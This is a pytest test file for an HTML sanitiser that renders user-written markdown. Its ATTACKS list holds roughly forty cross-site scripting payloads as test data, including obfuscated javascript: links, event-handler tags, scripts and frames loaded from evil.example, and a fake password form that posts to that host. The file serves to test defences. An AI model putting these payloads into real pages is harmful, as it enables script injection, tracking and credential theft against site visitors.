"""What leads write reaches everybody's page: whatever stands in it, nothing may run or call elsewhere."""

import re
import time

import pytest

from annotator.text.prose import LONGEST, checked_text, safe_html
from moments.base.errors import BadInput

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![picture](https://evil.example/track.png)",
    "![p][1]\n\n[1]: https://evil.example/track.png",
    "<picture><source srcset=//evil.example/a></picture>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](java\nscript:alert(1))",
    "<a href='java&#10;script:alert(1)'>a</a>",
    "<a href='&#1;javascript:alert(1)'>a</a>",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<a href="https://ok.example" onclick="alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '[a](https://ok.example "title\\" onmouseover=alert(1) x=\\"")',
    '<p style="position:fixed;inset:0">over everything</p>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="//evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<iframe src=//evil.example></iframe>",
    '<object data="//evil.example/a.swf"></object><embed src="//evil.example">',
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<video src=//evil.example/a.mp4 onloadstart=alert(1)></video><audio src=//evil.example/a>",
    '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
    '<details open ontoggle="alert(1)">',
    '<div id="desk-settings" class="message-error" hx-get="/admin/" data-hx-post="/x">a</div>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "```html\n<script>alert(1)</script>\n```",
    "|a|b|\n|:-|-|\n|<script>alert(1)</script>|1|",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href='https://ok.example' target='_self' rel='opener' ping='//evil.example'>a</a>",
]
HARMLESS_TAG = re.compile(
    r"</?(?:p|br|hr|h[3-6]|blockquote|pre|code|ul|li|strong|em|del|sub|sup|kbd|abbr|table|thead|tbody|tr|th|td)>"
    r'|<a(?: href="(?:(?:https?|mailto):|(?![A-Za-z][A-Za-z0-9+.-]*:))[^"]*")?(?: title="[^"]*")?'
    r' target="_blank" rel="noopener noreferrer">|</a>|<ol(?: start="\d+")?>|</ol>'
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_of_an_attack_nothing_but_harmless_tags_and_text_is_left(attack: str) -> None:
    html = safe_html(f"before\n\n{attack}\n\nafter")
    left = HARMLESS_TAG.sub("", html)
    assert "<" not in left, left
    for scheme in ("javascript:", "vbscript:", "data:"):
        assert not re.search(rf'href="\s*{scheme}', html, re.IGNORECASE)


def test_what_leads_need_stays() -> None:
    html = safe_html(
        "# Heads\n\nLook **twice**.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[rules](https://a.example)"
    )
    assert html.startswith("<h3>Heads</h3>")
    for piece in ("<strong>twice</strong>", "<li>two</li>", "<td>2</td>", 'href="https://a.example"'):
        assert piece in html


@pytest.mark.parametrize(
    ("text", "problem"),
    [("x" * (LONGEST + 1), "at most 20,000"), ("a\0b", "NUL"), ("[" * 1001, "opening brackets")],
)
def test_a_text_that_cannot_be_kept_says_why(text: str, problem: str) -> None:
    with pytest.raises(BadInput, match=problem):
        checked_text(text)


@pytest.mark.parametrize("piece", [">", "*", "_a", "`", "<div>", "    - a\n", "&", "<!--", "> - "])
def test_text_made_to_be_slow_is_read_in_seconds(piece: str) -> None:
    begun = time.monotonic()
    checked_text((piece * LONGEST)[:LONGEST])
    assert time.monotonic() - begun < 20


def test_line_ends_are_plain() -> None:
    assert checked_text("\r\na\r\nb\rc\n") == "a\nb\nc"


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("### A\n\n### B\n\n##### C\n\n# D", "3343"),
        ("# A\n\n### B\n\n## C\n\n### D", "3445"),
        ("###### A", "3"),
    ],
)
def test_no_heading_skips_a_level(text, levels):
    assert "".join(re.findall(r"<h(\d)>", safe_html(text))) == levels
    assert re.findall(r"</h(\d)>", safe_html(text)) == list(levels)
